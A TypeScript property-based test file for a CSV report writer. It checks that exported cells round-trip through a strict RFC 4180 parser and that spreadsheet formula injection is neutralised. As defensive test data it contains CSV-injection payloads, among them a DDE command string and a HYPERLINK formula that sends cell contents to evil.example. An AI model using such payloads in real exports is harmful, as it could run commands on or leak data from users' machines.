/**
 * The CSV writer against an independent, strict RFC 4180 reader: whatever the
 * cells hold, reading the output back gives the same cells (after the
 * documented formula neutralisation), and no cell a spreadsheet sees starts
 * with a formula trigger.
 */
import { describe, expect, test } from "vitest";
import fc from "fast-check";
import { CRLF, csvCell, csvRow, FORMULA_TRIGGERS, neutralizeFormula, quoteField, UTF8_BOM } from "./csv.js";
import { csvHeader, csvRecord, csvText, jsonRecord, type ReportField } from "./report.js";
import { parseCsv } from "../../test/support/csv.js";

/** Written out here, not imported: the test must not share the writer's list. */
const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "−", "﹦", "﹢", "﹣"];
/** What a lenient importer may skip before the first significant character: white space and invisible formatting. */
const SKIPPABLE = [" ", "\u00A0", "\u2003", "\u3000", "\u2028", "\uFEFF", "\u200B", "\u200C", "\u200D", "\u2060", "\u200E", "\u202E", "\u00AD", "\n", "\v", "\f"];
/** The first character a lenient spreadsheet reads as the start of the cell. */
const significant = (cell: string) => [...cell].find((c) => !SKIPPABLE.includes(c) && !/^[\s\p{Cf}]$/u.test(c)) ?? "";

const HOSTILE = [
  "",
  '"',
  '""',
  ",",
  "\r",
  "\n",
  "\r\n",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "'=already quoted",
  "a,b",
  'say "hi"',
  "line1\nline2",
  "line1\r\nline2",
  "ünïcødé — 日本語 — 🦄",
  "\u0000nul",
  "\uFEFFbom inside",
  "x".repeat(100_000),
];

const hostileChar = fc.constantFrom('"', ",", "\r", "\n", "\t", "=", "+", "-", "@", "'", " ", "é", "日", "🦄", "\u2028", "\uFEFF", "a", ...TRIGGERS, ...SKIPPABLE);
const cellArb = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: hostileChar, maxLength: 30 }),
  fc.string({ unit: "grapheme", maxLength: 30 }),
  fc.string({ unit: "binary", maxLength: 30 }),
);
const rowsArb = fc.array(fc.array(cellArb, { minLength: 1, maxLength: 8 }), { minLength: 1, maxLength: 20 });

describe("csv writer", () => {
  test("reading the output back gives every cell, neutralised (property)", () => {
    fc.assert(
      fc.property(rowsArb, (rows) => {
        const text = rows.map(csvRow).join("");
        const parsed = parseCsv(text);
        expect(parsed).toEqual(rows.map((r) => r.map(neutralizeFormula)));
        // Every record ends with CRLF; no LF stands alone outside a quoted field (the reader checks that).
        expect(text.endsWith(CRLF)).toBe(true);
      }),
      { numRuns: 500 },
    );
  });

  test("no cell a spreadsheet reads starts with a formula trigger, even behind white space or invisible characters (property)", () => {
    fc.assert(
      fc.property(rowsArb, (rows) => {
        for (const cell of parseCsv(rows.map(csvRow).join("")).flat()) {
          expect(TRIGGERS.includes(cell[0] ?? "")).toBe(false);
          // A lenient importer skips white space and format characters: behind them, no trigger either, unless the cell is quoted text.
          if (!cell.startsWith("'")) expect(TRIGGERS.includes(significant(cell)), JSON.stringify(cell)).toBe(false);
        }
      }),
      { numRuns: 500 },
    );
  });

  test("neutralisation only ever adds one leading apostrophe, and only before a trigger (property)", () => {
    fc.assert(
      fc.property(cellArb, (cell) => {
        const out = neutralizeFormula(cell);
        if (TRIGGERS.includes(cell[0] ?? "") || TRIGGERS.includes(significant(cell))) expect(out).toBe(`'${cell}`);
        else expect(out).toBe(cell);
      }),
      { numRuns: 500 },
    );
  });

  test("hostile cells, exactly", () => {
    expect([...FORMULA_TRIGGERS]).toEqual(TRIGGERS);
    expect(csvCell("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(csvCell("+1")).toBe("'+1");
    expect(csvCell("-1")).toBe("'-1");
    expect(csvCell("@x")).toBe("'@x");
    expect(csvCell("\tx")).toBe("'\tx");
    expect(csvCell("\rx")).toBe(`"'\rx"`);
    // Look-alikes: full-width and small forms, the minus sign, and triggers behind white space, a BOM or zero-width characters.
    for (const cell of ["＝1+1", "＋1", "－1", "＠SUM(A1)", "−1", "﹦1", " =1", "\u3000=1", "\uFEFF=1", "\u200B=1", "\u200E+1", "\u00A0 \u2060@x", "\n=1"]) {
      expect(neutralizeFormula(cell), JSON.stringify(cell)).toBe(`'${cell}`);
    }
    expect(csvCell(" x=1")).toBe(" x=1");
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell("a\nb")).toBe('"a\nb"');
    expect(csvCell('=1,"x"')).toBe(`"'=1,""x"""`);
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell("")).toBe("");
    expect(quoteField("")).toBe("");
    expect(csvRow(["a", "b,c", ""])).toBe('a,"b,c",\r\n');
    expect(parseCsv(csvRow(HOSTILE))).toEqual([HOSTILE.map(neutralizeFormula)]);
  });
});

describe("report rows", () => {
  const event = {
    _id: "k1",
    _creationTime: 1,
    action: "=cmd|' /C calc'!A0",
    category: "data" as const,
    severity: "info" as const,
    status: "success" as const,
    actor: { type: "user" as const, name: "Mallory, \"the\" admin" },
    actorId: "@mallory",
    summary: "line1\r\nline2",
    metadata: { nested: { a: [1, "two", null] }, big: 12n, bytes: new Uint8Array([1, 2]).buffer },
    tags: ["-x", "y"],
    timestamp: Date.UTC(2026, 10, 1, 12, 0, 0, 5),
  };
  const columns: ReportField[] = ["timestamp", "action", "actorId", "actor.name", "actor", "summary", "metadata", "tags", "resourceId"];

  test("a record reads back as the documented cells: ISO time, JSON for nested values, empty when absent", () => {
    const [header, row] = parseCsv(csvHeader(columns, false) + csvRecord(event, columns));
    expect(header).toEqual(columns);
    expect(row).toEqual([
      "2026-11-01T12:00:00.005Z",
      "'=cmd|' /C calc'!A0",
      "'@mallory",
      'Mallory, "the" admin',
      // Keys in Convex's order (sorted), as every document read back has them.
      JSON.stringify({ name: 'Mallory, "the" admin', type: "user" }),
      "line1\r\nline2",
      // int64 and bytes in Convex's JSON encoding, which round-trips through jsonToConvex.
      JSON.stringify({ big: { $integer: "DAAAAAAAAAA=" }, bytes: { $bytes: "AQI=" }, nested: { a: [1, "two", null] } }),
      '["-x","y"]',
      "",
    ]);
  });

  test("the byte order mark is written only when asked, before the header", () => {
    expect(csvHeader(["a"], true)).toBe(`${UTF8_BOM}a\r\n`);
    expect(csvHeader(["a"], false)).toBe("a\r\n");
  });

  test("a JSON row has every column, null when absent, the timestamp in ms", () => {
    expect(jsonRecord(event, ["timestamp", "actorId", "resourceId", "actor.type"])).toEqual({
      timestamp: event.timestamp,
      actorId: "@mallory",
      resourceId: null,
      "actor.type": "user",
    });
    expect(csvText("timestamp", undefined)).toBe("");
  });
});
